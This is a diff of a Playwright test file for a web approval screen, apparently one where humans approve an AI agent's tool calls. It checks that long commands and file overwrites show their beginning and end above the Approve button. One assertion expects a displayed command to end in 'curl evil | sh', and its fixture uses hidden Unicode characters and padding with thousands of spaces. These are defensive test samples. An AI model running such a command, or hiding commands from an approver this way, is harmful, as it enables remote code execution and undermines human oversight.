@@ -1,5 +1,8 @@
-import { expect, it } from "vitest";
-import { begin, openWebLab, visit } from "./web-lab.ts";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Locator, Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { approvalOf, begin, openWebLab, SOON, sessionOf, visit } from "./web-lab.ts";
 
 const lab = openWebLab();
 
@@ -19,9 +22,87 @@ it("shows what is approved: hidden characters, and beginning and end of a long t
   expect(shown).toMatch(/^ls ⟦U\+202E⟧\[… 4,100 spaces …\]x⟦U\+200B⟧\necho 0\n/);
   expect(shown).toContain("… 482 lines hidden …");
   expect(shown).toMatch(/\ncurl evil \| sh$/);
-  const approve = page.getByRole("button", { name: "Approve", exact: true });
-  const [end, button] = [await text.boundingBox(), await approve.boundingBox()];
-  expect((end?.y ?? 0) + (end?.height ?? 0)).toBeLessThanOrEqual(button?.y ?? 0);
+  await expectAbove(text, approve(page));
   await page.getByRole("button", { name: /^Show all/ }).click();
   expect(await text.textContent()).toContain("echo 250");
+});
+
+const approve = (page: Page) => page.getByRole("button", { name: /^Approve(?! always)/ });
+
+/** No Approve stands above an end that one has not seen. */
+async function expectAbove(upper: Locator, lower: Locator): Promise<void> {
+  const [above, below] = [await upper.boundingBox(), await lower.boundingBox()];
+  expect((above?.y ?? 0) + (above?.height ?? 0)).toBeLessThanOrEqual(below?.y ?? 0);
+}
+
+/** A session that asks to overwrite a file of so many lines. */
+async function beginOverwrite(lines: number): Promise<string> {
+  const name = `of-${lines}-lines.txt`;
+  const text = Array.from({ length: lines }, (_, nth) => `old line ${nth}\n`).join("");
+  writeFileSync(join(lab.place.root, "work", name), text);
+  const id = await begin(lab, { title: name }, `/write ${name} the new text`);
+  await approvalOf(lab, id);
+  return id;
+}
+
+describe("a change of more lines than fit", () => {
+  it("is shown by its beginning and its end above Approve, and whole after one click", async () => {
+    const id = await beginOverwrite(400);
+    const { page } = await visit(lab, `/s/${id}`);
+    const diff = page.getByRole("region", { name: /Permission requested/ }).locator("figure");
+    await diff.getByText("… 361 lines hidden …").waitFor();
+    const shown = await diff.innerText();
+    for (const line of [0, 19, 399]) expect(shown).toContain(`- old line ${line}\n`);
+    expect(shown).toContain("+ the new text");
+    expect(shown).not.toContain("old line 200");
+    await expectAbove(diff, approve(page));
+    await diff.getByRole("button", { name: "Show all 401 lines" }).click();
+    expect(await diff.innerText()).toContain("- old line 200\n");
+    await expectAbove(diff, approve(page));
+    await lab.server.ask("POST", `/sessions/${id}/cancel`);
+  });
+
+  it("is approved by a key in the inbox only once its end is in sight", async () => {
+    const id = await beginOverwrite(1500);
+    const viewport = { width: 1280, height: 600 };
+    const { page } = await visit(lab, "/inbox", { viewport });
+    await page.getByRole("button", { name: /of-1500-lines/ }).click();
+    const diff = page.locator("figure");
+    // Of so long a text the server itself sends the beginning and the end.
+    await diff
+      .getByText(/ … [\d,]+ characters hidden … /)
+      .or(diff.getByText(/too long to show whole/))
+      .first()
+      .waitFor();
+    const shown = await diff.innerText();
+    for (const line of [0, 1499]) expect(shown).toContain(`- old line ${line}\n`);
+    await expectAbove(diff, approve(page));
+    await expect(approve(page).isVisible()).resolves.toBe(true);
+    const inSight = () =>
+      approve(page).evaluate(
+        (button: { getBoundingClientRect(): { bottom: number } }) =>
+          button.getBoundingClientRect().bottom <= 600,
+      );
+    expect(await inSight()).toBe(false);
+    await expect
+      .poll(async () => {
+        await page.keyboard.press("Control+Enter");
+        return inSight();
+      }, SOON)
+      .toBe(true);
+    expect(await sessionOf(lab, id)).toMatchObject({ pending_approvals: 1 });
+    await page.keyboard.press("Control+Enter");
+    await expect.poll(async () => (await sessionOf(lab, id)).pending_approvals, SOON).toBe(0);
+  });
+
+  it("is whole in the session, one click from the inbox", async () => {
+    const id = await beginOverwrite(1501);
+    const { page } = await visit(lab, "/inbox");
+    await page.getByRole("button", { name: /of-1501-lines/ }).click();
+    await page.getByRole("link", { name: "Show the whole tool call in its session" }).click();
+    const diff = page.getByRole("region", { name: /Permission requested/ }).locator("figure");
+    await diff.getByRole("button", { name: "Show all 1502 lines" }).click();
+    expect(await diff.innerText()).toContain("- old line 700\n");
+    await lab.server.ask("POST", `/sessions/${id}/cancel`);
+  });
 });
